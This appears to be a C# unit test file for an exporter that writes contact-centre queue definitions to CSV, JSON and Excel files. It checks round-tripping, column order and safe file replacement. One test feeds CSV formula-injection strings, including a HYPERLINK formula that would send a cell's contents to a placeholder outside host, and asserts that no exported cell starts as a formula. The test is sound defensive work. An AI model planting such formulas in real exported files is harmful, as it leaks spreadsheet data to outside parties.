using System.Text;

namespace GenesysQueues.Core.Tests.Definitions.Files;

/// <summary>What is exported reads back as it was, and a failure leaves nothing behind.</summary>
public sealed class DefinitionFileWriterTests : IDisposable
{
    private readonly TemporaryFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    [Theory]
    [InlineData("q.csv", ',', null)]
    [InlineData("q.csv", ';', null)]
    [InlineData("q.csv", '\t', null)]
    [InlineData("q.csv", ',', "utf-16")]
    [InlineData("q.json", ',', null)]
    [InlineData("q.xlsx", ',', null)]
    public void Random_definitions_read_back_as_they_were(string name, char delimiter, string? encoding)
    {
        for (int seed = 1; seed <= 40; seed++)
        {
            var random = new RandomDefinitions(seed);
            List<GenesysQueueDefinition> given = [.. Enumerable.Range(1, 25).Select(random.Next)];

            string path = Write(name, given, new() { Delimiter = delimiter, Encoding = encoding is null ? null : Encoding.GetEncoding(encoding) });

            List<GenesysQueueDefinition> read = [.. new DefinitionFile(path).Read()];
            Assert.Equal(given.Count, read.Count);
            for (int i = 0; i < given.Count; i++)
            {
                Assert.True(JToken.DeepEquals(Form(given[i]), Form(read[i])), $"Seed {seed}, definition {i}, was and is:\n{Form(given[i])}\n{Form(read[i])}");
            }
        }
    }

    [Fact]
    public void There_is_a_column_for_what_is_used_in_the_order_of_the_documentation()
    {
        string path = Write("q.csv",
        [
            Given.Queue("Sales", ("Settings", new Dictionary<string, object?> { ["autoAnswerOnly"] = true }), ("Colour", "red"), ("ServiceLevel", "80/20")),
            Given.Queue("Care", ("Division", "EMEA"), ("Settings.whisperPrompt", "Hush"), ("WrapupCode", "A; B")),
        ]);

        Assert.Equal(
            "Name,Division,ServiceLevel,WrapupCode,Settings.autoAnswerOnly,Settings.whisperPrompt,Colour\r\n"
            + "Sales,,80/20,,true,,red\r\nCare,EMEA,,\"A; B\",,Hush,\r\n",
            File.ReadAllText(path));
        Assert.Equal(Encoding.UTF8.GetPreamble(), File.ReadAllBytes(path).Take(3));
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://x.example/\"&A1)")]
    [InlineData("+49 30 1234")]
    [InlineData("-Support")]
    [InlineData("@Home")]
    [InlineData("'=1")]
    [InlineData("''@x")]
    [InlineData("'n Sonne")]
    [InlineData("\uFF1D1")]
    public void No_cell_is_a_formula_and_every_text_survives(string text)
    {
        string path = Write("q.csv", [Given.Queue(text, ("Description", text), ("MemberGroup", new[] { text, text }))]);

        Assert.All(File.ReadAllText(path).Split('\r', '\n', ','), cell => Assert.DoesNotMatch("^\"?[-=+@\uFF1D]", cell));
        GenesysQueueDefinition read = Assert.Single(new DefinitionFile(path).Read());
        Assert.Equal((text, text), (read.Name, read.Description));
        Assert.Equal([text, text], read.MemberGroup!);
    }

    [Fact]
    public void What_became_of_a_row_stands_at_its_end_and_is_passed_over_when_read()
    {
        string path = Write("q.csv", w => w.Add(new(Given.Queue("Sales"), [new("Status", "Failed"), new("ErrorMessage", "=no")])), w => w.Add(new(Given.Queue("Care", ("Division", "EMEA")), [])));

        Assert.Equal("Name,Division,Status,ErrorMessage\r\nSales,,Failed,'=no\r\nCare,EMEA,,\r\n", File.ReadAllText(path));
        Assert.All(new DefinitionFile(path).Read(), row => Assert.Empty(row.Findings));
    }

    [Fact]
    public void A_file_without_rows_has_a_header()
    {
        Assert.Equal("Name\r\n", File.ReadAllText(Write("q.csv", [])));
        Assert.Equal("[]", File.ReadAllText(Write("q.json", [])).Trim());
    }

    [Fact]
    public void A_failure_at_the_end_leaves_the_old_file_and_no_other()
    {
        string path = _folder.Write("q.csv", "old");

        DefinitionFileException refused = Assert.Throws<DefinitionFileException>(() => Write("q.csv", [Given.Queue("日本")], new() { Encoding = Encoding.Latin1 }));

        Assert.Equal("NotInEncoding", refused.Code);
        Assert.Contains("'日'", refused.Message, StringComparison.Ordinal);
        Assert.Equal("old", File.ReadAllText(path));
        Assert.Equal(["q.csv"], Files());
    }

    [Fact]
    public void An_export_that_is_cut_short_leaves_the_old_file_and_no_other()
    {
        string path = _folder.Write("q.csv", "old");

        using (var file = new DefinitionFileWriter(path, new()))
        {
            file.Add(new(Given.Queue("Sales"), []));
            using var stopped = new CancellationTokenSource();
            stopped.Cancel();
            Assert.Throws<OperationCanceledException>(() => file.Complete(stopped.Token));
        }

        Assert.Equal("old", File.ReadAllText(path));
        Assert.Equal(["q.csv"], Files());
    }

    [Fact]
    public void A_file_that_is_open_elsewhere_is_refused_before_the_first_row()
    {
        string path = _folder.Write("q.csv", "old");
        using var elsewhere = new FileStream(path, FileMode.Open, FileAccess.ReadWrite, FileShare.None);

        Assert.Equal("FileNotWritable", Refused(path, new()).Code);
        Assert.Equal(["q.csv"], Files());
    }

    [Fact]
    public void A_place_that_is_taken_at_the_end_is_an_error_and_nothing_is_left()
    {
        using var file = new DefinitionFileWriter(_folder.File("q.csv"), new());
        Directory.CreateDirectory(_folder.File("q.csv"));

        Assert.Equal("FileNotWritable", Assert.Throws<DefinitionFileException>(() => file.Complete(CancellationToken.None)).Code);

        file.Dispose();
        Assert.Empty(Files());
    }

    [Fact]
    public void A_folder_a_missing_folder_and_with_NoClobber_a_file_are_refused()
    {
        string path = _folder.Write("q.csv", "old");

        Assert.Contains("is a folder", Refused(_folder.Path, new()).Message, StringComparison.Ordinal);
        Assert.Contains("no folder", Refused(Path.Combine(_folder.Path, "none", "q.csv"), new()).Message, StringComparison.Ordinal);
        Assert.Equal("FileExists", Refused(path, new() { NoClobber = true }).Code);
        Assert.Equal("old", File.ReadAllText(path));
    }

    [Fact]
    public void A_read_only_file_is_overwritten_by_force_alone()
    {
        string path = _folder.Write("q.csv", "old");
        File.SetAttributes(path, FileAttributes.ReadOnly);

        Assert.Contains("read-only", Refused(path, new()).Message, StringComparison.Ordinal);
        Write("q.csv", [Given.Queue("Sales")], new() { Force = true });

        Assert.Equal("Name\r\nSales\r\n", File.ReadAllText(path));
    }

    [Fact]
    public void A_file_that_only_its_owner_may_read_stays_so()
    {
        string path = _folder.Write("q.csv", "old");
        if (OperatingSystem.IsWindows())
        {
            return;
        }

        File.SetUnixFileMode(path, UnixFileMode.UserRead | UnixFileMode.UserWrite);
        Write("q.csv", [Given.Queue("Sales")]);

        Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(path));
    }

    private static DefinitionFileException Refused(string path, ExportOptions options) =>
        Assert.Throws<DefinitionFileException>(() => new DefinitionFileWriter(path, options).Dispose());

    private IEnumerable<string?> Files() => Directory.GetFiles(_folder.Path).Select(Path.GetFileName);

    private string Write(string name, params Action<DefinitionFileWriter>[] rows)
    {
        using var file = new DefinitionFileWriter(_folder.File(name), new());
        Array.ForEach(rows, row => row(file));
        file.Complete(CancellationToken.None);
        return _folder.File(name);
    }

    private string Write(string name, IEnumerable<GenesysQueueDefinition> definitions, ExportOptions? options = null)
    {
        using var file = new DefinitionFileWriter(_folder.File(name), options ?? new());
        foreach (GenesysQueueDefinition definition in definitions)
        {
            file.Add(new(definition, []));
        }

        file.Complete(CancellationToken.None);
        return _folder.File(name);
    }

    /// <summary>Everything of a definition but where it came from; of a column that cannot be read only that.</summary>
    private static JObject Form(GenesysQueueDefinition definition)
    {
        JObject json = DefinitionJson.Write(definition);
        json[nameof(definition.SkillMatch)] = definition.SkillMatch.ToString();
        string[] unread =
        [
            .. definition.Findings.Where(finding => finding.IsError).Select(finding => finding.Column!)
                .Distinct().Order(StringComparer.Ordinal),
        ];
        Array.ForEach(unread, column => json.Remove(column));
        json["unread"] = new JArray(unread);
        return json;
    }
}
